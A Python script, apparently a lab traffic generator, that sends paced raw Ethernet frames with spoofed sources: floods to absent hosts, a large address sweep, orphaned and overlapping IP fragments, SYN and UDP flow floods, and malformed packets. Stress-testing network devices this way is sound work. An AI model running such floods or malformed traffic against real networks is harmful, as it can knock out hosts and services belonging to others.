"""Sends hostile frames on eth0, paced, until the time is over: attack.py KIND MAC RATE SECONDS."""
import random
import socket
import struct
import sys
import time

kind, mac, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
rng = random.Random(kind)
ether = bytes.fromhex(mac.replace(":", "")) + b"\x06\0\0\0\0\1" + b"\x08\0"


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def address(net, bits):
    return struct.pack("!I", (net << 24) | rng.getrandbits(bits))


def packet(source, target, protocol, payload, ident=0, fragment=0, ttl=64, options=b""):
    ihl = 5 + len(options) // 4
    head = struct.pack("!BBHHHBBH4s4s", 0x40 | ihl, 0, 4 * ihl + len(payload), ident, fragment,
                       ttl, protocol, 0, source, target) + options
    return ether + head[:10] + struct.pack("!H", checksum(head)) + head[12:] + payload


def tcp(flags, dport=80):
    return struct.pack("!HHIIBBHHH", rng.randint(1024, 65535), dport, rng.getrandbits(32), 0,
                       0x50, flags, 65535, 0, 0)


def udp(payload=b""):
    return struct.pack("!HHHH", rng.randint(1, 65535), rng.randint(1, 65535), 8 + len(payload), 0) + payload


MORE = 0x2000


def neighbours():
    """Long packets to hosts that are not there, a few of them often."""
    host = struct.pack("!I", 0x0A000300 + 10 + 40 * rng.randint(0, 4) + rng.randint(0, 39))
    return [packet(address(20, 24), host, 17, udp(bytes(1000)))]


def sweep():
    """Every host of a network of sixteen million, in no order."""
    return [packet(address(21, 24), address(44, 24), 17, udp(bytes(18)))]


def fragments():
    """Later fragments whose first never comes, or comes late; overlapping, tiny and doubled ones."""
    source, target = address(22, 24), address(23, 24)
    ident = rng.getrandbits(16)
    later = packet(source, target, 17, bytes(512), ident, MORE | 185)
    first = packet(source, target, 17, udp(bytes(1472)), ident, MORE)
    which = rng.randint(0, 9)
    if which < 6:
        return [later]
    if which == 6:
        return [later, first]
    if which == 7:
        return [packet(source, target, 6, tcp(2)[:8], ident, MORE), packet(source, target, 6, tcp(2)[8:], ident, 1)]
    if which == 8:
        return [first, packet(source, target, 17, bytes(512), ident, MORE | 100), later]
    return [first, first, later, later]


def flows():
    """New flows of TCP and UDP, from anywhere."""
    target = struct.pack("!I", 0x0A000202)
    if rng.random() < 0.5:
        return [packet(address(24, 24), target, 6, tcp(2, rng.randint(1, 65535)))]
    return [packet(address(25, 24), target, 17, udp(bytes(18)))]


def broken():
    """What is no packet: cut, lying about lengths, of other versions, expired, with options."""
    source, target = address(26, 24), struct.pack("!I", 0x0A000202)
    whole = packet(source, target, 6, tcp(2))
    which = rng.randint(0, 6)
    if which == 0:
        return [whole[:rng.randint(14, len(whole))]]
    if which == 1:
        return [ether + bytes([rng.choice([0x44, 0x4F, 0x65, 0x00, 0xF5])]) + whole[15:]]
    if which == 2:
        return [whole[:16] + struct.pack("!H", rng.getrandbits(16)) + whole[18:]]
    if which == 3:
        return [packet(source, target, 17, udp(), ttl=1)]
    if which == 4:
        return [packet(source, target, 17, udp(), options=bytes([7, rng.randint(0, 40), rng.randint(0, 40), 0]))]
    if which == 5:
        return [ether[:12] + struct.pack("!H", rng.choice([0x0806, 0x8864, 0x86DD, 0x8100, 0x1234]))
                + rng.randbytes(rng.randint(0, 60))]
    return [ether + rng.randbytes(rng.randint(0, 1400))]


make = {"neighbours": neighbours, "sweep": sweep, "fragments": fragments, "flows": flows, "broken": broken}[kind]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind(("eth0", 0))
began = time.monotonic()
sent = 0
while (passed := time.monotonic() - began) < seconds:
    while sent < passed * rate:
        for frame in make():
            try:
                out.send(frame)
            except OSError:  # The link's queue is full: this one is lost, as on a wire.
                pass
            sent += 1
    time.sleep(0.002)
print("sent", sent)
